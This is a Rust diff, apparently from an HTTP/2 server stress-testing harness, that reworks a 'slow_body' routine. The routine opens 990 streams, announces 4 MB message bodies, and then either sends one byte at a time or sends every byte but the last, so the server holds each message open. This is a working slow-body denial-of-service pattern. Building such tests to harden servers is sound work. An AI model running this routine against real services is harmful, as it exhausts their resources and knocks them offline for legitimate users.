@@ -3,7 +3,6 @@
 use std::time::Duration;
 
 use crate::attacker::{Attacker, Over, request, request_fields, request_with, streams};
-use crate::frames::data;
 use crate::support::{END_HEADERS, END_STREAM, HEADERS, PREFACE, block, frame};
 use crate::{Attack, Cost, Victim};
 
@@ -115,23 +114,29 @@ async fn trickle(
     Ok(())
 }
 
-/// Messages byte by byte, of as many calls as there may be at once.
+/// Messages that never become whole, of as many calls as there may be at once: byte by byte, or all
+/// but the last of their bytes.
 async fn slow_body(attacker: &mut Attacker) -> Result<(), Over> {
     const STREAMS: usize = 990;
-    // Four megabytes are announced.
-    const PREFIX: &[u8] = &[0, 0, 0x40, 0, 0];
-    attacker.begin(&[]).await?;
+    const LENGTH: u32 = 4 * 1024 * 1024;
+    let prefix = [&[0][..], &LENGTH.to_be_bytes()].concat();
+    attacker.begin_and_wait(&[]).await?;
     for stream in streams().take(STREAMS) {
         attacker.send(&request(stream, SAY_HELLO, &[])).await?;
-        attacker.send(&data(stream, PREFIX)).await?;
+        attacker.send_data(stream, &prefix).await?;
     }
-    let byte_each: Vec<u8> = streams()
-        .take(STREAMS)
-        .flat_map(|it| data(it, b"x"))
-        .collect();
+    if attacker.number % 2 == 1 {
+        let most = vec![b'x'; usize::try_from(LENGTH).unwrap() - 1];
+        for stream in streams().take(STREAMS) {
+            attacker.send_data(stream, &most).await?;
+        }
+        attacker.listen().await?;
+    }
     loop {
         attacker.dawdle(PACE).await?;
-        attacker.send(&byte_each).await?;
+        for stream in streams().take(STREAMS) {
+            attacker.send_data(stream, b"x").await?;
+        }
     }
 }
 
